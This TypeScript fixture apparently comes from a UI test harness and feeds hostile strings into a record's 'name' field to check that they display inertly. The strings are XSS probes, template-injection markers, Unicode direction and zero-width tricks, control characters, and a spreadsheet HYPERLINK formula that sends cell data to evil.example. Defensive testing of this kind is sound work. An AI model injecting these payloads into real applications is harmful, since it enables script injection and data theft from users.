import { changes } from '#dev/hostile-server/exchange.ts';
import { type Fault, type Look, spoiltRow } from '#dev/hostile-server/fault.ts';
import { healthyRows } from '#dev/hostile-server/healthy-answers.ts';

const family = 'Hostile text';

/** Text that would like to be more than text. `shown`: what stands on screen, the hidden made visible. */
const texts: { name: string; text: string; shown?: string }[] = [
  { name: 'an image with a handler', text: '<img src=x onerror="window.hacked=1">' },
  { name: 'a script', text: '</script><script>window.hacked=1</script>' },
  { name: 'a frame', text: '<iframe srcdoc="<script>top.hacked=1</script>"></iframe>' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the point of it.
  { name: 'templates', text: '${7*7} {{7*7}} #{7*7} <%= 7*7 %>' },
  { name: 'markdown', text: '[click](javascript:window.hacked=1) **bold** `code`' },
  { name: 'entities', text: '&lt;b&gt;&#x202E;&amp;' },
  { name: 'right-to-left override', text: 'AK\u202egpj.exe', shown: 'AK⟨U+202E⟩gpj.exe' },
  { name: 'isolates', text: 'A\u2066B\u2069C', shown: 'A⟨U+2066⟩B⟨U+2069⟩C' },
  { name: 'zero-width', text: 'Red\u200bline\ufeff', shown: 'Red⟨U+200B⟩line⟨U+FEFF⟩' },
  { name: 'new lines and tabs', text: 'one\r\ntwo\tthree', shown: 'one⟨U+000D⟩⟨U+000A⟩two⟨U+0009⟩three' },
  { name: 'NUL and escape', text: 'a\u0000b\u001b[31mc', shown: 'a⟨U+0000⟩b⟨U+001B⟩[31mc' },
  { name: 'a formula', text: '=HYPERLINK("http://evil.example/?x="&A1;"Click")' },
  { name: 'stacked marks', text: `Z${'\u0301\u0352\u033f'.repeat(40)}` },
  { name: 'Arabic beside Latin', text: 'سكين AK-47' },
];

export const hostileText: Fault[] = [
  ...texts.map(
    ({ name, text, shown = text }): Fault => ({
      family,
      name,
      act: changes(renamed(text)),
      sees: {
        list: { kind: 'answer', rows: healthyRows, look: named(text, shown) },
        item: { kind: 'answer', look: named(text, shown) },
      },
    }),
  ),
  {
    family,
    name: 'a name of 200,000 characters',
    act: changes(renamed('W'.repeat(200_000))),
    sees: { list: { kind: 'answer', rows: healthyRows }, item: { kind: 'answer' } },
  },
  {
    family,
    name: 'an empty name',
    act: changes(renamed('')),
    sees: { list: { kind: 'answer', rows: healthyRows }, item: { kind: 'answer' } },
  },
  {
    family,
    name: 'an error message of the service',
    act: changes((good) => ({
      ...good,
      data: {
        ...(good.data as object),
        error_message: '<b onclick=x>\u202eno</b>',
        error_date: '2024-05-06 07:08:09',
      },
    })),
    sees: {
      item: {
        kind: 'answer',
        look: {
          kind: 'text',
          field: 'error_message',
          text: '<b onclick=x>\u202eno</b>',
          shown: '<b onclick=x>⟨U+202E⟩no</b>',
        },
      },
    },
  },
];

function renamed(name: string) {
  return (good: { data: unknown }) => ({
    ...good,
    data: Array.isArray(good.data)
      ? good.data.map((row, index) => (index === spoiltRow ? { ...row, name } : row))
      : { ...(good.data as object), name },
  });
}

function named(text: string, shown: string): Look {
  return { kind: 'text', field: 'name', text, shown };
}
